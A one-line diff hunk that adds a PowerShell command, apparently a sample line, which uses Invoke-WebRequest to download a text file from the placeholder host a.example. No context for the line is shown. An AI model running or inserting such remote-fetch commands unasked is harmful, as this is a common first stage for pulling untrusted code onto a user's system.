@@ -1,0 +1,1 @@
+pwsh -c iwr http://a.example/p/x.txt
